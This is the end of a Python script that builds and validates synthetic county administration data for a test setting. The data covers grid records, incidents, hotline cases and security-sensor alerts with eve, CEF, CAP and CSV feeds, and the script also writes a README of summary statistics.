        check(h["grid_id"] in grid_ids, f"hotline {h['ticket']} grid")
        prev = T(h["received_at"])
        check(START <= prev <= END, f"hotline {h['ticket']} outside window")
        for n, f in enumerate(order):
            check((f in h) == (n < need[h["status"]]), f"hotline {h['ticket']} {f} vs {h['status']}")
            if f in h:
                t = T(h[f])
                check(prev <= t <= END, f"hotline {h['ticket']} {f} out of order")
                prev = t
        check(("satisfaction" in h) == (h["status"] in ("callback_done", "closed")), f"{h['ticket']} satisfaction")
        check(h.get("satisfaction", "satisfied") in SATIS, "satisfaction enum")
    check(sum(1 for h in hot if h["status"] == "returned") >= 3, "too few returned")

    # --- alerts
    al = load_jsonl("alerts.jsonl")
    check(len(al) >= 2000, "fewer than 2000 alerts")
    check(len({a["sensor"] for a in al}) >= 3, "fewer than 3 sensors")
    for a in al:
        for f in ("at", "sensor", "signature_id", "signature", "level", "src", "dest"):
            check(f in a, f"alert lacks {f}")
        check(a["level"] in (1, 2, 3, 4), "alert level")
        check(START <= T(a["at"]) <= END, "alert outside window")
        for ip in (split_hp(a["src"])[0], split_hp(a["dest"])[0]):
            check(ip.startswith(DOC_NETS), f"address {ip} outside documentation/internal ranges")
        check(a.get("grid_id", next(iter(grid_ids))) in grid_ids, "alert grid")
    keys = {}
    for a in al:
        k = (a["sensor"], a["signature_id"], a["src"], a["dest"])
        keys[k] = keys.get(k, 0) + 1
    check(max(keys.values()) >= 50 and len(keys) < len(al) / 10, "alerts do not repeat enough to aggregate")
    # correlation: >= 30 level<=2 on one asset within 10 minutes
    hits = sorted(T(a["at"]) for a in al if a["level"] <= 2 and a.get("asset") == "县政务服务网")
    best = 0
    j = 0
    for i in range(len(hits)):
        while hits[i] - hits[j] > timedelta(minutes=10):
            j += 1
        best = max(best, i - j + 1)
    check(best >= 30, f"no burst of 30 (best {best})")

    # --- feeds
    with open(os.path.join(ROOT, "feeds/eve.json"), encoding="utf-8") as f:
        for line in f:
            ev = json.loads(line)
            t = datetime.strptime(ev["timestamp"], "%Y-%m-%dT%H:%M:%S.%f%z")
            check(START <= t <= END, "eve time outside window")
    with open(os.path.join(ROOT, "feeds/12345-export.csv"), "rb") as f:
        raw = f.read()
    check(raw.startswith(b"\xef\xbb\xbf"), "CSV without BOM")
    rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))
    check(len(rows) - 1 >= 50 and all(len(r) == 13 for r in rows), "CSV shape")
    for name in sorted(os.listdir(os.path.join(ROOT, "feeds/cap"))):
        import xml.etree.ElementTree as ET
        root = ET.parse(os.path.join(ROOT, "feeds/cap", name)).getroot()
        check(root.tag == "{urn:oasis:names:tc:emergency:cap:1.2}alert", f"CAP root in {name}")
    for line in open(os.path.join(ROOT, "feeds/syslog-cef.log"), encoding="utf-8"):
        check(line.startswith("<") and "CEF:0|" in line, "syslog line shape")

    if errors:
        for e in errors[:50]:
            print("INVALID:", e, file=sys.stderr)
        sys.exit(f"{len(errors)} validation error(s)")
    print(f"valid: {len(grids)} grid records ({len(leaf)} grids), {len(incs)} incidents {lv}, "
          f"{len(hot)} hotline cases, {len(al)} alerts in {len(keys)} dedup keys (burst {best})")


# ----------------------------------------------------------------------------------------------

def main() -> None:
    if "--check" in sys.argv[1:]:
        validate()
        return
    county, grids, county_ring = build_county()
    township_rings = {r["name"]: [tuple(p) for p in r["geometry"]["coordinates"][0]]
                      for r in county if r["level"] == "township"}
    incidents = build_incidents(grids)
    hotline = build_hotline(grids)
    alerts = build_alerts(grids)

    write_jsonl("county.jsonl", county)
    write_jsonl("incidents.jsonl", incidents)
    write_jsonl("hotline.jsonl", hotline)
    write_jsonl("alerts.jsonl", alerts)

    eve = build_eve(alerts)
    write_text("feeds/eve.json", eve)
    cef = build_syslog_cef(alerts)
    write_text("feeds/syslog-cef.log", cef)
    for name, doc in build_cap(county_ring, township_rings).items():
        write_text(f"feeds/cap/{name}", doc)
    write_text("feeds/12345-export.csv", build_csv(grids), bom=True)
    o311 = build_open311(grids)
    write_text("feeds/open311.json", o311)
    write_text("calendar-2026.toml", calendar_toml())
    write_text("sla.toml", SLA_TOML)

    def due_hours(h):
        return (handle_due(h) - END).total_seconds() / 3600

    open_h = [h for h in hotline if h["status"] in ("new", "accepted", "transferred", "returned")]
    eve_types = [json.loads(x)["event_type"] for x in eve.splitlines()]
    keys = {(a["sensor"], a["signature_id"], a["src"], a["dest"]) for a in alerts}
    stats = {
        "grid": len(county), "township": sum(r["level"] == "township" for r in county),
        "village": sum(r["level"] == "village" for r in county), "grid15": len(grids),
        "incident": len(incidents), "lv": {k: sum(i["level"] == k for i in incidents) for k in (1, 2, 3, 4)},
        "hotline": len(hotline), "overdue": sum(due_hours(h) < 0 for h in open_h),
        # near-due in working time: the next working day starts Monday 23 00:00, 40 h after the window end
        "near": sum(0 <= due_hours(h) - 40 <= NEAR_DUE_HOURS for h in open_h),
        "alert": len(alerts), "dedup": len(keys),
        "burst": sum(1 for a in alerts if a["src"] == BURST_SRC and a["level"] <= 2),
        "eve_alert": eve_types.count("alert"), "eve_dns": eve_types.count("dns"),
        "eve_flow": eve_types.count("flow"), "eve_stats": eve_types.count("stats"),
        "cef": len(cef.splitlines()), "csv": 60, "open311": len(json.loads(o311)),
    }
    write_text("README.md", readme(stats))
    validate()


if __name__ == "__main__":
    main()
